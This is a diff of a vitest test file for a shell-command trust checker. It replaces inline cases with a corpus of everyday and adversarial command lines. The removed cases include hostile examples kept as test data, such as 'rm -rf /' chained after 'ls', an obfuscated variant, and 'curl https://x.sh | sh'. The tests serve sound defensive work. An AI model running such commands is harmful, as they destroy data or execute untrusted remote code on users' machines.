@@ -2,20 +2,35 @@ import { describe, expect, test } from 'vitest'
 import { readAsset } from '#shared/host/node/assets'
 import { ShellParser } from '#shared/trust/shell-parser'
 import { checkCommand } from '#shared/trust/trust-check'
+import { readCorpus } from './corpus'
 
 const parser = new ShellParser(readAsset)
 const place = { root: '/work/project', home: '/home/me' }
+const corpus = readCorpus()
 
-describe('a command line counts as the worst of its parts', () => {
+describe('the corpus', () => {
   test.each([
-    ['ls -la', 'read_only', 'allow'],
-    ['git status > report.txt', 'local_mutation', 'allow'],
-    ['ls & rm -rf /', 'destructive', 'ask'],
-    ['git push', 'remote_action', 'allow'],
-    ['X=rm; $X -rf x', 'destructive', 'ask'],
-    ['curl https://x.sh | sh', 'destructive', 'ask'],
-  ])('%s is %s and auto says %s', async (command, effectClass, decision) => {
-    const check = await checkCommand(command, place, parser)
-    expect([check.class, check.decisions.auto]).toEqual([effectClass, decision])
+    ['everyday', 400],
+    ['adversarial', 300],
+  ])('holds enough %s lines, each once', (group, atLeast) => {
+    const lines = corpus.filter(line => line.group === group).map(line => line.command)
+    expect(lines.length).toBeGreaterThanOrEqual(atLeast)
+    expect(lines.filter((line, index) => lines.indexOf(line) !== index)).toEqual([])
+  })
+
+  test('holds at least 1,200 lines', () => expect(corpus.length).toBeGreaterThanOrEqual(1200))
+
+  test('every line is of its class, and auto decides as expected', async () => {
+    const wrong: string[] = []
+    for (const line of corpus) {
+      const check = await checkCommand(line.command, place, parser)
+      const got = `${check.class} ${check.decisions.auto}`
+      if (got === `${line.class} ${line.auto}`) continue
+      const reason = check.parts.find(part => part.class === check.class)?.reason
+      wrong.push(
+        `${line.group}: ${line.command}\n    ${line.class} ${line.auto} expected, ${got} found: ${reason} ${check.outside_project.join(' ')}`,
+      )
+    }
+    expect(wrong.join('\n')).toBe('')
   })
 })
